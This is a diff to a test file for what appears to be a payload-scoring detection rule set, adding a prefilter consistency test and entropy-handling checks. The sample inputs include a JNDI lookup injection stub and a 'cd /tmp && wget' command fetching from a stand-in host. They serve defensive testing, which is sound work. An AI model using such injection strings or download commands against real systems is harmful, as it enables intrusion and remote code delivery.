@@ -62,6 +62,14 @@ def test_scores_add_up_are_capped_and_say_why() -> None:
     assert RULES.score(everything).score == 100
 
 
+def test_the_one_pass_prefilter_agrees_with_the_rules() -> None:
+    assert RULES.any_rule is not None
+    for payload in (b"uname -a", b"${jndi:x}", b"x" * 300, b"cd /tmp && wget http://a.b/c"):
+        assert bool(RULES.any_rule.search(payload)) == bool(
+            [r for r in RULES.rules if r.pattern.search(payload)]
+        )
+
+
 def test_benign_traffic_scores_nothing() -> None:
     for benign in (b"GET / HTTP/1.1\r\nHost: example.net\r\n", b"uname -a", b"ls -la", b"root"):
         assert RULES.score(benign).score == 0
@@ -70,7 +78,7 @@ def test_benign_traffic_scores_nothing() -> None:
 def test_high_entropy_payload_is_flagged_as_packed() -> None:
     noise = os.urandom(4096)
     result = RULES.score(noise)
-    assert "entropy" in result.matched and result.entropy > 7.5
+    assert "entropy" in result.matched and result.entropy is not None and result.entropy > 7.5
     assert RULES.score(b"A" * 4096).matched == ()
 
 
@@ -156,4 +164,8 @@ def test_missing_file_is_a_clear_error(tmp_path: Path) -> None:
 @given(st.binary(max_size=20_000))
 def test_any_payload_gets_a_bounded_score(data: bytes) -> None:
     result = RULES.score(data)
-    assert 0 <= result.score <= 100 and 0 <= result.entropy <= 8
+    assert 0 <= result.score <= 100
+    if len(data) < 256:
+        assert result.entropy is None
+    else:
+        assert result.entropy is not None and 0 <= result.entropy <= 8
